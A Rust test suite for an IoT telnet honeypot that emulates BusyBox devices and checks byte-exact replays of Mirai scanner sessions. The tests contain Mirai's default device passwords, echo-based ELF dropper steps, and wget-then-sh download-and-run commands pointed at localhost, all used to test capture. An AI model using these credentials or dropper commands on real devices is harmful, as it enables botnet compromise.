//! Session tests with a fake clock: exact bytes, exact events.

use super::*;
use busybait_device::auth::AuthMode;
use busybait_device::terminal::{tty, Limits};
use busybait_device::vfs::StagedBytes;
use busybait_device::DeviceState;
use std::time::{Duration, UNIX_EPOCH};

const MIRAI_IAC_REPLY: &[u8] = &[
    0xff, 0xfc, 0x01, 0xff, 0xfb, 0x1f, 0xff, 0xfa, 0x1f, 0x00, 0x50, 0x00, 0x18, 0xff, 0xf0, 0xff,
    0xfd, 0x01, 0xff, 0xfd, 0x03,
];
const BANNER: &[u8] = b"\r\n\r\nBusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n";

struct Harness {
    session: Session,
    now: Now,
}

fn config(profile: &str, limits: Limits) -> Arc<SessionConfig> {
    Arc::new(SessionConfig::builtin(profile, AuthMode::Sticky, Default::default(), limits).unwrap())
}

/// The device state of a config no session holds yet, to change for a test.
fn state_mut(cfg: &mut Arc<SessionConfig>) -> &mut DeviceState {
    Arc::get_mut(&mut Arc::get_mut(cfg).unwrap().state).unwrap()
}

impl Harness {
    fn new(profile: &str) -> Self {
        Self::with(config(profile, Limits::default()))
    }

    fn with(config: Arc<SessionConfig>) -> Self {
        let now = Now {
            mono: Instant::now(),
            wall: UNIX_EPOCH + Duration::from_secs(1_795_000_000),
        };
        let peer = Peer {
            src: "127.0.0.5:40000".parse().unwrap(),
            dst: "127.0.0.1:2323".parse().unwrap(),
            protocol: busybait_events::Protocol::Telnet,
        };
        Self {
            session: Session::new(config, SessionId::from_u64(0xabc), peer, now),
            now,
        }
    }

    fn take(&mut self) -> Vec<u8> {
        let mut out = Vec::new();
        self.session.poll_transmit(&mut out);
        out
    }

    fn send(&mut self, bytes: &[u8]) -> Vec<u8> {
        self.session.handle_input(self.now, bytes);
        self.run_slices();
        self.take()
    }

    /// Lets a computing line have its further slices of work, as the edge does.
    fn run_slices(&mut self) {
        while self.session.is_computing() {
            self.session.handle_timeout(self.now);
        }
    }

    /// Advances the fake clock by `d`, firing every deadline on the way.
    fn advance(&mut self, d: Duration) -> Vec<u8> {
        let end = self.now.mono + d;
        while let Some(t) = self.session.poll_timeout() {
            if t > end {
                break;
            }
            self.now = self.now.after(t.saturating_duration_since(self.now.mono));
            self.session.handle_timeout(self.now);
        }
        self.now = self.now.after(end.saturating_duration_since(self.now.mono));
        self.take()
    }

    fn event_ids(&mut self) -> Vec<&'static str> {
        std::iter::from_fn(|| self.session.poll_event())
            .map(|e| e.kind.event_id())
            .collect()
    }

    fn events(&mut self) -> Vec<EventKind> {
        std::iter::from_fn(|| self.session.poll_event())
            .map(|e| e.kind)
            .collect()
    }
}

fn ms(n: u64) -> Duration {
    Duration::from_millis(n)
}

#[test]
fn opening_matches_the_capture() {
    let mut h = Harness::new("oracle");
    let mut out = h.take();
    out.extend(h.advance(ms(10)));
    assert_eq!(
        out,
        b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\r\nDebian GNU/Linux 12\r\n\rvm login: "
    );
}

#[test]
fn mirai_scanner_dialogue_matches_the_capture() {
    let mut h = Harness::new("oracle");
    h.take();
    assert_eq!(h.send(MIRAI_IAC_REPLY), b"");
    h.advance(ms(10));
    assert_eq!(h.send(b"root"), b"root");
    assert_eq!(h.send(b"\r\n"), b"\r\nPassword: ");
    assert_eq!(h.send(b"xc3511"), b"");
    let mut expected = b"\r\n".to_vec();
    expected.extend_from_slice(BANNER);
    expected.extend_from_slice(b"~ # \x1b[6n");
    assert_eq!(h.send(b"\r\n"), expected);
    assert_eq!(
        h.send(b"enable\r\n"),
        b"enable\r\n-sh: enable: not found\r\n~ # \x1b[6n"
    );
    assert_eq!(
        h.send(b"system\r\n"),
        b"system\r\n-sh: system: not found\r\n~ # \x1b[6n"
    );
    assert_eq!(
        h.send(b"shell\r\n"),
        b"shell\r\n-sh: shell: not found\r\n~ # \x1b[6n"
    );
    let mut expected = b"sh\r\n".to_vec();
    expected.extend_from_slice(BANNER);
    expected.extend_from_slice(b"~ # \x1b[6n");
    assert_eq!(h.send(b"sh\r\n"), expected);
    assert_eq!(
        h.send(b"/bin/busybox MIRAI\r\n"),
        b"/bin/busybox MIRAI\r\nMIRAI: applet not found\r\n~ # \x1b[6n"
    );
    assert_eq!(
        h.send(b"foo\r\n"),
        b"foo\r\nsh: foo: not found\r\n~ # \x1b[6n"
    );
    let events = h.events();
    assert_eq!(
        events[..8],
        [
            EventKind::connect(),
            EventKind::TelnetOption {
                verb: busybait_events::TelnetVerb::Wont,
                option: 1
            },
            EventKind::TelnetOption {
                verb: busybait_events::TelnetVerb::Will,
                option: 31
            },
            EventKind::ClientSize {
                width: 80,
                height: 24
            },
            EventKind::TelnetOption {
                verb: busybait_events::TelnetVerb::Do,
                option: 1
            },
            EventKind::TelnetOption {
                verb: busybait_events::TelnetVerb::Do,
                option: 3
            },
            EventKind::ClientFingerprint {
                fingerprint: "fffc01 fffb1f fffa1f00500018fff0 fffd01 fffd03".into()
            },
            EventKind::LoginSuccess {
                username: "root".into(),
                password: "xc3511".into()
            },
        ]
    );
    assert_eq!(
        events[8..11],
        [
            EventKind::CommandInput {
                input: "enable".into()
            },
            EventKind::CommandFailed {
                input: "enable".into()
            },
            EventKind::CommandInput {
                input: "system".into()
            },
        ]
    );
}

#[test]
fn wrong_password_pauses_three_seconds_and_third_failure_closes() {
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.take();
    for attempt in 1..=3 {
        assert_eq!(h.send(b"root\r\n"), b"root\r\nPassword: ");
        assert_eq!(h.send(b"wrong\r\n"), b"\r\n", "newline at once");
        assert_eq!(h.advance(ms(2999)), b"");
        let out = h.advance(ms(1));
        if attempt < 3 {
            assert_eq!(out, b"Login incorrect\r\nvm login: ");
            assert!(!h.session.is_closed());
        } else {
            assert_eq!(out, b"Login incorrect\r\n");
            assert!(h.session.is_closed());
        }
    }
    let ids = h.event_ids();
    assert_eq!(
        ids,
        [
            "cowrie.session.connect",
            "cowrie.login.failed",
            "cowrie.login.failed",
            "cowrie.login.failed",
            "busybait.session.end",
            "cowrie.session.closed"
        ]
    );
}

#[test]
fn type_ahead_during_the_pause_is_echoed_then_flushed() {
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.take();
    h.send(b"root\r\nbad\r\n");
    // Mirai's scanner types "enable" at the ':' of the next prompt it thinks it saw.
    assert_eq!(h.send(b"enable\r\n"), b"enable\r\n");
    assert_eq!(
        h.advance(Duration::from_secs(3)),
        b"Login incorrect\r\nvm login: "
    );
    assert_eq!(h.send(b"root\r\n"), b"root\r\nPassword: ");
}

#[test]
fn sticky_credential_refuses_a_second_one_from_the_same_source() {
    let cfg = config("xiongmai-dvr", Limits::default());
    let mut first = Harness::with(cfg.clone());
    first.advance(ms(10));
    first.send(b"root\r\nvizxv\r\n");
    assert!(first.session.is_authenticated());
    let mut second = Harness::with(cfg);
    second.advance(ms(10));
    second.send(b"root\r\nxc3511\r\n");
    assert!(!second.session.is_authenticated());
}

#[test]
fn input_before_login_starts_is_echoed_and_discarded() {
    let mut h = Harness::new("oracle");
    h.take();
    // A TTYPE subnegotiation: BusyBox passes its payload to the pty.
    let out = h.send(b"\xff\xfa\x18\x00XTERM\xff\xf0");
    assert_eq!(out, b"^@XTERM");
    assert_eq!(h.advance(ms(10)), b"vm login: ");
    assert_eq!(h.send(b"root\r\n"), b"root\r\nPassword: ");
}

#[test]
fn empty_lines_reprompt_and_long_username_closes() {
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.take();
    assert_eq!(h.send(b"\r\n"), b"\r\nvm login: ");
    assert_eq!(h.send(b"   root  x\r\n"), b"   root  x\r\nPassword: ");
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.take();
    let long = [b'a'; 70];
    h.send(&long);
    h.send(b"\r\n");
    assert!(h.session.is_closed());
}

#[test]
fn eof_hands_over_a_partial_line_and_ends_an_empty_one() {
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.take();
    assert_eq!(
        h.send(b"ab\x04\x7f"),
        b"ab",
        "^D is not echoed; delivered bytes cannot be erased"
    );
    assert_eq!(h.send(b"c\r\n"), b"c\r\nPassword: ");
    assert_eq!(h.send(b"pw\x04"), b"");
    assert_eq!(h.send(b"\x04"), b"\r\n", "EOF ends the password read");
    h.advance(Duration::from_secs(3));
    let failed: Vec<EventKind> = h
        .events()
        .into_iter()
        .filter(|e| matches!(e, EventKind::LoginFailed { .. }))
        .collect();
    assert_eq!(
        failed,
        [EventKind::LoginFailed {
            username: "abc".into(),
            password: "pw".into()
        }]
    );
}

#[test]
fn login_timeout_prints_busybox_message() {
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.take();
    let out = h.advance(Duration::from_secs(60));
    assert_eq!(out, b"\r\nLogin timed out after 60 seconds\r\n");
    assert!(h.session.is_closed());
    let events = h.events();
    assert!(events.contains(&EventKind::LimitHit {
        limit: "login_timeout",
        value: 60
    }));
}

#[test]
fn long_line_hits_the_limit() {
    let limits = Limits {
        max_line_bytes: 100,
        ..Limits::default()
    };
    let mut h = Harness::with(config("oracle", limits));
    h.advance(ms(10));
    h.send(&[b'x'; 100]);
    assert!(!h.session.is_closed());
    h.send(b"x");
    assert!(h.session.is_closed());
    assert!(h.events().contains(&EventKind::LimitHit {
        limit: "max_line_bytes",
        value: 100
    }));
}

#[test]
fn unterminated_subnegotiation_hits_the_limit() {
    let mut h = Harness::new("oracle");
    let mut input = vec![0xff, 0xfa, 0x18];
    input.extend(std::iter::repeat_n(b'A', 600));
    h.send(&input);
    assert!(h.session.is_closed());
    assert!(h.events().contains(&EventKind::LimitHit {
        limit: "max_subneg_bytes",
        value: 512
    }));
}

#[test]
fn ctrl_c_at_the_login_prompt_kills_login() {
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.take();
    // The echo of what came in the same write is flushed with the input.
    assert_eq!(h.send(b"ro\x03"), b"^C");
    assert!(h.session.is_closed());
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.take();
    assert_eq!(h.send(b"ro"), b"ro");
    assert_eq!(h.send(b"\x03"), b"^C");
    assert!(h.session.is_closed());
}

#[test]
fn echo_wraps_at_the_naws_width() {
    let mut h = Harness::new("oracle");
    h.send(MIRAI_IAC_REPLY);
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    let line =
        b"echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; cat /var/.nippon; rm /var/.nippon";
    let out = h.send(line);
    assert_eq!(
        out,
        b"echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; cat /var/.nippon; rm /var/.ni\r\r\nppon"
    );
}

#[test]
fn loader_burst_is_answered_in_order() {
    let mut h = Harness::new("xiongmai-dvr");
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    let out = h.send(b"enable\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n");
    let text = String::from_utf8(out).unwrap();
    assert_eq!(
        text,
        "enable\r\n-sh: enable: not found\r\n# shell\r\n-sh: shell: not found\r\n# sh\r\n\r\n\r\nBusyBox v1.20.2 (2014-04-18 16:50:30 CST) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# /bin/busybox ECCHI\r\nECCHI: applet not found\r\n# "
    );
}

#[test]
fn files_survive_a_reconnect_from_the_same_source() {
    let cfg = config("xiongmai-dvr", Limits::default());
    let mut first = Harness::with(cfg.clone());
    first.advance(ms(10));
    first.send(b"root\r\nxc3511\r\n");
    first.send(b"echo -n kept > /var/.t\r\nexit\r\n");
    assert!(first.session.is_closed());
    let mut second = Harness::with(cfg);
    second.advance(ms(10));
    second.send(b"root\r\nxc3511\r\n");
    let out = second.send(b"cat /var/.t\r\n");
    assert_eq!(out, b"cat /var/.t\r\nkept# ");
}

#[test]
fn downloads_wait_for_the_edge_when_fetching_is_on() {
    let mut cfg = config("oracle", Limits::default());
    state_mut(&mut cfg).shell.fetch = true;
    let mut h = Harness::with(cfg);
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    let out = h.send(b"cd /tmp; wget http://127.0.0.1/bins.sh; sh bins.sh\r\n");
    assert!(
        out.ends_with(b"Connecting to 127.0.0.1 (127.0.0.1:80)\r\n"),
        "{out:?}"
    );
    let (id, req) = h.session.poll_fetch().unwrap();
    assert_eq!(req.url, "http://127.0.0.1/bins.sh");
    assert_eq!(h.session.poll_fetch(), None);
    let script = b"echo from script\nwget http://127.0.0.1/x.arm -O x\n".to_vec();
    h.session
        .handle_fetch_result(h.now, id, FetchResult::Data(script));
    let out = h.take();
    assert_eq!(
        out,
        b"saving to 'bins.sh'\r\nfrom script\r\nConnecting to 127.0.0.1 (127.0.0.1:80)\r\n"
    );
    let (id2, req2) = h.session.poll_fetch().unwrap();
    assert_eq!(req2.url, "http://127.0.0.1/x.arm");
    // A stale answer is ignored; the right one finishes the line.
    h.session
        .handle_fetch_result(h.now, id, FetchResult::Refused);
    assert_eq!(h.take(), b"");
    h.session
        .handle_fetch_result(h.now, id2, FetchResult::Refused);
    assert_eq!(
        h.take(),
        b"wget: can't connect to remote host (127.0.0.1): Connection refused\r\n/tmp # \x1b[6n"
    );
    let urls: Vec<String> = h
        .events()
        .into_iter()
        .filter_map(|e| match e {
            EventKind::DownloadRequest { url, .. } => Some(url),
            _ => None,
        })
        .collect();
    assert_eq!(urls, ["http://127.0.0.1/bins.sh", "http://127.0.0.1/x.arm"]);
}

#[test]
fn a_loop_of_writes_stages_one_entry_per_file() {
    let mut h = Harness::new("ipcam-mipsel");
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    // 2,000 writes in one line, alternating between two files, with a truncation.
    h.send(b"cd /tmp; i=0; while [ $i -lt 1000 ]; do echo -n a >> x; echo -n b >> y; i=$((i+1)); done; echo -n z > y; echo -n c >> y; /bin/busybox ECCHI\r\n");
    let x = h.session.poll_staged().unwrap();
    let y = h.session.poll_staged().unwrap();
    assert_eq!(h.session.poll_staged(), None, "one entry per file");
    assert_eq!(
        (&x.path[..], x.offset, x.data.len()),
        (&b"/tmp/x"[..], 0, 1000)
    );
    assert!(x.data.iter().all(|&b| b == b'a'));
    assert_eq!(
        (&y.path[..], y.offset, &y.data[..]),
        (&b"/tmp/y"[..], 0, &b"zc"[..])
    );
}

#[test]
fn a_download_piped_into_sh_is_a_sample_and_runs() {
    let mut cfg = config("oracle", Limits::default());
    state_mut(&mut cfg).shell.fetch = true;
    let mut h = Harness::with(cfg);
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    h.send(b"wget -qO- http://127.0.0.1/i.sh | sh\r\n");
    let (id, req) = h.session.poll_fetch().unwrap();
    assert_eq!(req.url, "http://127.0.0.1/i.sh");
    h.session
        .handle_fetch_result(h.now, id, FetchResult::Data(b"echo piped\n".to_vec()));
    assert_eq!(h.take(), b"piped\r\n~ # \x1b[6n");
    let s = h.session.poll_sample().unwrap();
    assert_eq!(
        (&s.path[..], &s.data[..], s.origin.url()),
        (
            &b"-"[..],
            &b"echo piped\n"[..],
            Some("http://127.0.0.1/i.sh")
        )
    );
}

#[test]
fn files_being_written_are_staged_as_they_grow() {
    let mut h = Harness::new("ipcam-mipsel");
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    h.send(b"cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46' > upnp; /bin/busybox ECCHI\r\n");
    let staged = |path: &[u8], offset: u64, data: &[u8]| StagedBytes {
        path: path.to_vec(),
        offset,
        data: data.to_vec(),
    };
    assert_eq!(
        h.session.poll_staged(),
        Some(staged(b"/tmp/upnp", 0, b"\x7fELF"))
    );
    assert_eq!(h.session.poll_staged(), None);
    // Two appends in one line come as one piece.
    h.send(b"echo -ne '\\x01' >> upnp; echo -ne '\\x02' >> upnp; /bin/busybox ECCHI\r\n");
    assert_eq!(
        h.session.poll_staged(),
        Some(staged(b"/tmp/upnp", 4, b"\x01\x02"))
    );
    // Truncating starts the staged copy again (the old content is a sample).
    h.send(b"echo -n ab > upnp; /bin/busybox ECCHI\r\n");
    assert_eq!(
        h.session.poll_staged(),
        Some(staged(b"/tmp/upnp", 0, b"ab"))
    );
    assert_eq!(
        &h.session.poll_sample().unwrap().data[..],
        b"\x7fELF\x01\x02"
    );
    h.send(b"chmod 777 upnp\r\n");
    assert_eq!(
        h.session.poll_staged(),
        None,
        "finished files are not staged"
    );
    assert_eq!(&h.session.poll_sample().unwrap().data[..], b"ab");
}

#[test]
fn the_echo_dropper_and_downloads_become_samples() {
    let mut h = Harness::new("ipcam-mipsel");
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    h.send(b"cd /tmp/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n");
    h.send(b"/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp\r\n");
    h.send(b"echo -ne '\\x7f\\x45\\x4c\\x46' > upnp; /bin/busybox ECCHI\r\n");
    h.send(b"echo -ne '\\x01\\x02' >> upnp; /bin/busybox ECCHI\r\n");
    assert_eq!(h.session.poll_sample(), None, "still being written");
    h.send(b"./upnp; ./dvrHelper telnet.mpsl; /bin/busybox IHCCE\r\n");
    let s = h.session.poll_sample().unwrap();
    assert_eq!(s.path, b"/tmp/upnp");
    assert_eq!(&s.data[..], b"\x7fELF\x01\x02");
    assert_eq!(s.origin, busybait_device::vfs::Origin::Written);
    h.send(b"rm -rf upnp; > dvrHelper; /bin/busybox ECCHI\r\n");
    assert_eq!(
        h.session.poll_sample(),
        None,
        "captured once, dvrHelper is empty"
    );
    // A file left behind is captured when the session ends.
    h.send(b"echo left > /tmp/.x\r\n");
    h.session.close(h.now, CloseReason::ClientClosed);
    let s = h.session.poll_sample().unwrap();
    assert_eq!(
        (&s.path[..], &s.data[..]),
        (&b"/tmp/.x"[..], &b"left\n"[..])
    );
}

#[test]
fn one_file_stops_at_the_per_file_cap_with_an_event() {
    let mut cfg = config("ipcam-mipsel", Limits::default());
    state_mut(&mut cfg).vfs_limits.max_file_bytes = 300;
    let mut h = Harness::with(cfg);
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    let chunk: String = std::iter::repeat_n("\\x41", 128).collect();
    for i in 0..4 {
        let op = if i == 0 { ">" } else { ">>" };
        h.send(format!("echo -ne '{chunk}' {op} /tmp/upnp\r\n").as_bytes());
    }
    // Another file still has room.
    h.send(b"echo -n ok > /tmp/other; chmod 777 /tmp/upnp\r\n");
    let limits: Vec<EventKind> = h
        .events()
        .into_iter()
        .filter(|e| matches!(e, EventKind::LimitHit { .. }))
        .collect();
    let hit = EventKind::LimitHit {
        limit: "vfs_file_bytes",
        value: 300,
    };
    assert_eq!(limits, [hit.clone(), hit], "once per line past the cap");
    let sample = h.session.poll_sample().unwrap();
    assert_eq!(
        (&sample.path[..], sample.data.len()),
        (&b"/tmp/upnp"[..], 256)
    );
    let out = h.send(b"cat /tmp/other\r\n");
    assert!(out.starts_with(b"cat /tmp/other\r\nok"), "{out:?}");
}

#[test]
fn an_echo_chain_stops_at_the_file_system_cap_with_an_event() {
    let mut cfg = config("ipcam-mipsel", Limits::default());
    state_mut(&mut cfg).vfs_limits = busybait_device::vfs::VfsLimits {
        max_bytes: 1000,
        max_nodes: 100,
        max_file_bytes: 100_000,
    };
    let mut h = Harness::with(cfg);
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    let chunk: String = std::iter::repeat_n("\\x41", 128).collect();
    for i in 0..10 {
        let line = format!(
            "echo -ne '{chunk}' {} /tmp/upnp\r\n",
            if i == 0 { ">" } else { ">>" }
        );
        h.send(line.as_bytes());
    }
    let limits: Vec<EventKind> = h
        .events()
        .into_iter()
        .filter(|e| matches!(e, EventKind::LimitHit { .. }))
        .collect();
    assert_eq!(
        limits.len(),
        3,
        "once per line that hit the cap: 7 x 128 fit in 1000"
    );
    assert_eq!(
        limits[0],
        EventKind::LimitHit {
            limit: "vfs_bytes_per_source",
            value: 1000
        }
    );
    assert!(!h.session.is_closed(), "the session goes on");
    h.session.close(h.now, CloseReason::ClientClosed);
    assert_eq!(h.session.poll_sample().unwrap().data.len(), 7 * 128);
}

#[test]
fn output_doubles_iac() {
    let mut h = Harness::new("oracle");
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    assert_eq!(
        h.send(b"\xff\xff\r\n"),
        b"\xff\xff\r\n-sh: \xff\xff: not found\r\n~ # \x1b[6n"
    );
}

#[test]
fn same_input_same_output() {
    let run = || {
        let mut h = Harness::new("ipcam-mipsel");
        let mut all = h.take();
        all.extend(h.send(MIRAI_IAC_REPLY));
        all.extend(h.advance(ms(10)));
        all.extend(h.send(b"root\r\nbad\r\n"));
        all.extend(h.advance(Duration::from_secs(4)));
        all.extend(h.send(b"admin\r\nadmin\r\nls\r\n"));
        (all, h.event_ids())
    };
    assert_eq!(run(), run());
}

#[test]
fn a_session_cannot_grow_its_variables_past_the_cap() {
    let mut h = Harness::new("xiongmai-dvr");
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    // 5,000 new names (and as many read-only ones) in one line: the table stops
    // at MAX_VARS, names already there still change.
    h.send(b"i=0; while [ $i -lt 5000 ]; do eval v$i=x; readonly r$i; i=$((i+1)); done\r\n");
    let out = h.send(b"set | wc -l; v1=changed; echo $v1 $v4999\r\n");
    let text = String::from_utf8(out).unwrap();
    assert_eq!(
        text,
        format!(
            "set | wc -l; v1=changed; echo $v1 $v4999\r\n{}\r\nchanged\r\n# ",
            // IFS's value holds a newline: `set` prints one line more than it has
            // variables.
            busybait_device::shell::exec::MAX_VARS + 1
        )
    );
}

#[test]
fn system_views_agree_with_the_profile_and_the_connection() {
    let mut h = Harness::new("ipcam-mipsel");
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    let text = |out: Vec<u8>| String::from_utf8(out).unwrap();
    // 44,444 kB on a 32-bit board: 11,111 pages / 16 / 2 processes; the kernel's
    // default open-file limit.
    assert_eq!(
        text(h.send(b"ulimit -n; ulimit -u\r\n")),
        "ulimit -n; ulimit -u\r\n1024\r\n347\r\n# "
    );
    let mac: Vec<String> = h
        .session
        .config
        .device()
        .mac
        .iter()
        .map(|b| format!("{b:02X}"))
        .collect();
    let ifconfig = text(h.send(b"ifconfig eth0\r\n"));
    assert!(
        ifconfig.contains(&format!("HWaddr {}", mac.join(":"))),
        "{ifconfig}"
    );
    let address = ifconfig
        .split("inet addr:")
        .nth(1)
        .and_then(|r| r.split_whitespace().next())
        .unwrap()
        .to_string();
    assert!(address.starts_with("192.168.1."), "{address}");
    let route = text(h.send(b"route -n\r\n"));
    assert!(
        route.contains("0.0.0.0         192.168.1.1     0.0.0.0         UG"),
        "{route}"
    );
    // The attacker sees its own connection, to the device's LAN address.
    let netstat = text(h.send(b"netstat -an\r\n"));
    assert!(
        netstat.contains("0.0.0.0:23              0.0.0.0:*               LISTEN"),
        "{netstat}"
    );
    assert!(
        netstat.contains(&format!("{address}:23"))
            && netstat.contains("127.0.0.5:40000         ESTABLISHED"),
        "{netstat}"
    );
    let dmesg = text(h.send(b"dmesg | head -n 1\r\n"));
    assert!(
        dmesg.contains("Linux version 3.10.14__isvp_swan_1.0__"),
        "{dmesg}"
    );
}

#[test]
fn an_endless_here_document_runs_as_an_error_at_the_bound() {
    let mut h = Harness::new("xiongmai-dvr");
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    assert_eq!(h.send(b"cat <<EOF\r\n"), b"cat <<EOF\r\n> ");
    let line = [b'x'; 99];
    // Each 100-byte line gets the PS2 prompt until 16 KiB are gathered; then the
    // shell stops waiting for EOF and reports the end of input.
    let mut lines = 0;
    let text = loop {
        lines += 1;
        let out = h.send(&[&line[..], b"\r\n"].concat());
        if !out.ends_with(b"> ") {
            break String::from_utf8_lossy(&out).into_owned();
        }
        assert!(lines < 200, "still continuing after {lines} lines");
    };
    assert_eq!(lines, 164, "{text}");
    assert!(
        text.contains("syntax error: unexpected end of file"),
        "{text}"
    );
    assert!(text.ends_with("# "), "{text}");
    assert_eq!(h.send(b"echo next\r\n"), b"echo next\r\nnext\r\n# ");
}

/// How a hostile line ends (`testdata/hostile-lines.txt`).
#[derive(Debug, Clone, PartialEq, Eq)]
enum HostileEnd {
    /// The shell dies of its memory budget: BusyBox's words, the connection closes.
    OutOfMemory,
    /// A child shell (`$(…)`) dies of it; the login shell goes on.
    ChildOutOfMemory,
    /// The line stalls on a budget (the last limit named): no output, no prompt, until
    /// ^C.
    Stalled(Vec<String>),
}

/// Lines that grow memory or burn CPU by every means the shell offers, and how each
/// ends with the default budgets.
fn hostile_lines() -> Vec<(String, HostileEnd)> {
    include_str!("../../../../testdata/hostile-lines.txt")
        .lines()
        .filter(|l| !l.starts_with('#') && !l.is_empty())
        .map(|l| {
            let (end, line) = l.split_once('\t').unwrap();
            let end = match end {
                "oom" => HostileEnd::OutOfMemory,
                "child-oom" => HostileEnd::ChildOutOfMemory,
                stall => HostileEnd::Stalled(
                    stall
                        .strip_prefix("stall ")
                        .unwrap()
                        .split(',')
                        .map(str::to_string)
                        .collect(),
                ),
            };
            (line.replace("\\n", "\n"), end)
        })
        .collect()
}

#[test]
fn hostile_lines_end_within_the_budgets_and_every_call_is_bounded() {
    let budgets = busybait_device::shell::budget::Budgets::default();
    // Work one call into the session may do: its slice, plus what cannot yield in
    // between (a reservation up to the memory budget, a pattern match's fuel).
    let bound = budgets.slice_work * 17 + budgets.memory_bytes as u64;
    for (line, end) in hostile_lines() {
        let line = line.as_str();
        let mut h = Harness::new("xiongmai-dvr");
        h.advance(ms(10));
        h.send(b"root\r\nxc3511\r\n");
        h.events();
        let lines: Vec<&str> = line.split('\n').collect();
        let (last, first) = lines.split_last().unwrap();
        for l in first {
            h.send(l.as_bytes());
            assert_eq!(h.send(b"\r"), b"\r\n> ", "{line}: PS2");
        }
        h.session.handle_input(h.now, last.as_bytes());
        h.take();
        // Enter, then every slice the line asks for, one call at a time.
        h.session.handle_input(h.now, b"\r");
        let mut worst = h.session.line_work();
        let mut most_held = h.session.memory_used();
        let mut out = h.take();
        while h.session.is_computing() {
            let before = h.session.line_work();
            h.session.handle_timeout(h.now);
            worst = worst.max(h.session.line_work().saturating_sub(before));
            most_held = most_held.max(h.session.memory_used());
            out.extend(h.take());
        }
        assert!(
            worst <= bound,
            "{line}: {worst} units in one call (bound {bound})"
        );
        assert!(
            most_held <= budgets.memory_bytes + 1024 * 1024,
            "{line}: held {most_held}"
        );
        let events = h.events();
        let limits: Vec<&str> = events
            .iter()
            .filter_map(|e| match e {
                EventKind::LimitHit { limit, .. } => Some(*limit),
                _ => None,
            })
            .collect();
        match end {
            HostileEnd::OutOfMemory => {
                assert_eq!(
                    String::from_utf8_lossy(&out),
                    "\r\nsh: out of memory\r\n",
                    "{line}"
                );
                assert!(h.session.is_closed(), "{line}");
                assert_eq!(limits, ["shell_memory_bytes"], "{line}");
                assert!(
                    events.contains(&EventKind::SessionEnd {
                        reason: CloseReason::Limit
                    }),
                    "{line}"
                );
            }
            HostileEnd::ChildOutOfMemory => {
                assert_eq!(
                    String::from_utf8_lossy(&out),
                    "\r\nsh: out of memory\r\n# ",
                    "{line}"
                );
                assert_eq!(limits, ["shell_memory_bytes"], "{line}");
                assert!(!h.session.is_closed(), "{line}");
            }
            HostileEnd::Stalled(budget) => {
                assert_eq!(String::from_utf8_lossy(&out), "\r\n", "{line}");
                assert!(!h.session.is_closed(), "{line}");
                assert_eq!(limits, budget, "{line}");
                assert_eq!(
                    h.session.poll_timeout(),
                    Some(h.session.idle_deadline),
                    "{line}"
                );
                // Time passing costs nothing; ^C brings the prompt back.
                let quiet = h.advance(Duration::from_secs(60));
                assert_eq!(quiet, b"", "{line}");
                let back = h.send(b"\x03");
                assert!(back.ends_with(b"# "), "{line}: {back:?}");
                assert_eq!(h.send(b"echo $?\r"), b"echo $?\r\n130\r\n# ");
            }
        }
    }
}

#[test]
fn a_stored_file_goes_out_by_reference_as_the_slow_path_would_send_it() {
    let image = config("xiongmai-dvr", Limits::default())
        .state
        .base
        .busybox
        .shared();
    let Some(image) = image else {
        panic!("the busybox image is stored");
    };
    // Shared bytes are not the session's own output: a file longer than
    // `max_output_bytes` still goes out whole.
    let limits = Limits {
        max_output_bytes: image.len() / 2,
        ..Limits::default()
    };
    let mut h = Harness::with(config("xiongmai-dvr", limits));
    h.advance(ms(10));
    h.send(b"root\r\nxc3511\r\n");
    for (line, column) in [
        ("cat /bin/echo", 0),
        ("echo -n abc; cat /bin/busybox", 3),
        ("echo -ne 'x\\ty'; cat /bin/echo", 9),
        ("dd if=/bin/echo", 0),
        ("cat < /bin/busybox", 0),
        ("cat /bin/echo /bin/echo", 0),
    ] {
        h.session
            .handle_input(h.now, format!("{line}\r").as_bytes());
        let mut shared = 0;
        let mut out = Vec::new();
        // The client takes every piece; the line goes on as it drains.
        for _ in 0..10_000 {
            while let Some(piece) = h.session.poll_transmit_piece() {
                shared += usize::from(matches!(piece, Outgoing::Shared(..)));
                out.extend_from_slice(piece.as_slice());
            }
            if out.ends_with(b"# ") {
                break;
            }
            h.session.handle_timeout(h.now);
        }
        let mut slow = Vec::new();
        tty::encode(&image, column, &mut slow);
        let copies = if line.ends_with("/bin/echo /bin/echo") {
            2
        } else {
            1
        };
        assert_eq!(shared, copies, "{line}: sent by reference");
        let found = out
            .windows(slow.len())
            .filter(|w| *w == slow.as_slice())
            .count();
        assert!(found >= 1, "{line}: the bytes are the slow path's");
        assert!(out.ends_with(b"# "), "{line}: and the prompt after it");
    }
}
